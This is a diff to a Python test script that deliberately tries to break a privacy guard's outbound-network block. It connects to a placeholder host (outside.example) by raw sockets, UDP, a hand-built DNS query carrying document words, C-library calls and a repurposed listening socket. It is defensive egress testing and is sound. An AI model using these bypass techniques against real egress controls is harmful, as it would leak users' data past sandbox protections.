@@ -1,12 +1,14 @@
 """Attempts to break out on purpose, one for each library that could; run as a process of its own.
 
-argv: the folder to record in, the outside's address, its port, and "guarded" or "bare". Reads
-names of attempts from stdin, one a line, and answers each with a line of JSON. The libraries' own
-switches stay as they come: here the guard alone has to hold.
+argv: the folder to record in, the outside's address, its port, and "bare", "guarded" or "apart",
+which is guarded and in a network namespace as the serving process is. Reads names of attempts from
+stdin, one a line, and answers each with a line of JSON. The libraries' own switches stay as they
+come: here the guard alone has to hold.
 """
 
 import json
 import os
+import socket
 import subprocess
 import sys
 from collections.abc import Callable
@@ -14,9 +16,11 @@ from pathlib import Path
 from typing import Any
 
 from app.privacy.allowed import Allowed
+from app.privacy.apart import go_apart, listen
 from app.privacy.attempts import AttemptFile
 from app.privacy.guard import EgressRefused, Guard
-from app.privacy.limits import connect_in_c
+from app.privacy.limits import connect_in_c, resolve_in_c, send_in_c
+from app.settings import load_settings
 
 _TIMEOUT = 3.0
 NAME = "outside.example"  # RFC 2606: no real host can have it
@@ -25,8 +29,8 @@ NAME = "outside.example"  # RFC 2606: no real host can have it
 class Attempts:
     """Every attempt, by its name; the names that end in a bracket need the outside's resolver."""
 
-    def __init__(self, host: str, port: int) -> None:
-        self._host, self._port = host, port
+    def __init__(self, host: str, port: int, listener: socket.socket) -> None:
+        self._host, self._port, self._listener = host, port, listener
         self._url = f"http://{host}:{port}/leak"
         own = (name for name in dir(self) if name.startswith("try_"))
         self.known: dict[str, Callable[[], Any]] = {
@@ -71,13 +75,9 @@ class Attempts:
         asyncio.run(asyncio.wait_for(asyncio.open_connection(self._host, self._port), _TIMEOUT))
 
     def try_socket_tcp(self) -> None:
-        import socket
-
         socket.create_connection((self._host, self._port), _TIMEOUT).close()
 
     def try_socket_connect_ex(self) -> None:
-        import socket
-
         with socket.socket() as one:
             one.settimeout(_TIMEOUT)
             one.connect_ex((self._host, self._port))
@@ -131,38 +131,38 @@ class Attempts:
         command = [sys.executable, "-c", "from app.privacy import limits\n" + code]
         subprocess.run([*command, self._host, str(self._port), how], check=False)
 
-    def try_c_library_in_this_process(self) -> None:
+    def try_c_library_that_connects(self) -> None:
         connect_in_c(self._host, self._port)
+
+    def try_listening_socket_turned_round(self) -> None:
+        self._listener.listen()
+        connect_in_c(self._host, self._port, self._listener.detach())
 
     # From here on, with the outside's own resolver.
 
     def try_udp_packet(self) -> None:
-        import socket
-
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
             one.sendto(b"leak", (self._host, 53))
 
     def try_dns_query(self) -> None:
-        import socket
-
         question = b"\0\7\1\0\0\1" + bytes(6) + b"\4leak\7outside\7example\0\0\1\0\1"
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
             one.sendmsg([question], [], 0, (self._host, 53))
 
     def try_getaddrinfo(self) -> None:
-        import socket
-
         socket.getaddrinfo(f"words-of-a-document.{NAME}", 443)
 
     def try_gethostbyname(self) -> None:
-        import socket
-
         socket.gethostbyname(f"words-of-a-document.{NAME}")
 
     def try_gethostbyaddr(self) -> None:
-        import socket
-
         socket.gethostbyaddr(self._host)
+
+    def try_c_library_that_sends(self) -> None:
+        send_in_c(self._host, 53)
+
+    def try_c_library_that_looks_up(self) -> None:
+        resolve_in_c(f"words-of-a-document.{NAME}")
 
     def try_hugging_face_hub(self) -> None:
         from huggingface_hub import HfApi  # transformers and sentence-transformers go through it
@@ -186,12 +186,13 @@ class Attempts:
 
 
 WITH_NAMES = ("udp_packet", "dns_query", "getaddrinfo", "gethostbyname", "gethostbyaddr",
-              "hugging_face_hub", "chroma_default_embedder", "gradio_analytics",
-              "gradio_version_check")  # fmt: skip
+              "c_library_that_sends", "c_library_that_looks_up", "hugging_face_hub",
+              "chroma_default_embedder", "gradio_analytics", "gradio_version_check")  # fmt: skip
+# Past Python, in a process like the one that serves: its network namespace has to hold.
+BELOW = ("c_library_that_connects", "listening_socket_turned_round", "c_library_that_sends",
+         "c_library_that_looks_up")  # fmt: skip
 # What the kernel refuses below Python, so that nothing in Python can note it.
-UNRECORDED = ("c_library_in_a_parser",)
-# Known limits: what a guard in Python cannot see. They are tried so that nobody has to believe it.
-LIMITS = ("c_library_in_this_process",)
+UNRECORDED = ("c_library_in_a_parser", *BELOW)
 ON_ANY = tuple(
     name.removeprefix("try_")
     for name in vars(Attempts)
@@ -204,12 +205,19 @@ def main() -> int:
     home, host, port, how = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
     out = os.fdopen(os.dup(1), "w")
     os.dup2(2, 1)  # what libraries print is not an answer
-    attempts = Attempts(host, port)
-    if how == "guarded":
+    reason = ""
+    if how == "apart":
+        (listener,) = listen("0.0.0.0", 0)  # as for a chat that others reach
+        reason = go_apart(load_settings({"home": Path(home)})).reason
+    else:
+        listener = socket.create_server(("0.0.0.0", 0))
+    attempts = Attempts(host, port, listener)
+    if how != "bare":
         foreign = (f"{host}/32",) if host.startswith("127.") else ()
         Guard(Allowed(foreign=foreign), AttemptFile(Path(home))).install()
     for line in sys.stdin:
-        print(json.dumps(_made(attempts.known[line.strip()])), file=out, flush=True)
+        said = {**_made(attempts.known[line.strip()]), "not_apart": reason}
+        print(json.dumps(said), file=out, flush=True)
     return 0
 
 
